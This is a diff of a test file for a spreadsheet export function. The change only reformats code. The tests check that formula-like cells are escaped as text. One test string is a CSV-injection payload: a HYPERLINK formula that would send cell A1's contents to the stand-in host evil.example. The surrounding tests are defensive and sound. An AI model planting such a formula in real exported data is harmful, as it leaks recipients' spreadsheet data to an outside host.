@@ -9,7 +9,11 @@ const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '
 describe('the console export of agency data', () => {
   it('writes a CSV cell that a spreadsheet would read as a formula as text (a leading apostrophe)', () => {
     const csv = toCsv({ name: 't', header: ['value'], rows: hostile.map((value) => [value]) });
-    const cells = csv.replace(/^\uFEFF/, '').trimEnd().split('\r\n').slice(1);
+    const cells = csv
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n')
+      .slice(1);
     expect(cells).toEqual([
       `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
       "'+1+1",
@@ -22,7 +26,12 @@ describe('the console export of agency data', () => {
 
   it('leaves numbers, dates and ordinary text as they are', () => {
     const csv = toCsv({ name: 't', header: ['a', 'b', 'c'], rows: [[-5, '2026-12-04', '瑞安市隆瑞服饰有限公司']] });
-    expect(csv.replace(/^\uFEFF/, '').trimEnd().split('\r\n')[1]).toBe('-5,2026-12-04,瑞安市隆瑞服饰有限公司');
+    expect(
+      csv
+        .replace(/^\uFEFF/, '')
+        .trimEnd()
+        .split('\r\n')[1],
+    ).toBe('-5,2026-12-04,瑞安市隆瑞服饰有限公司');
   });
 
   it('stores such text in XLSX as a string cell, never a formula', async () => {
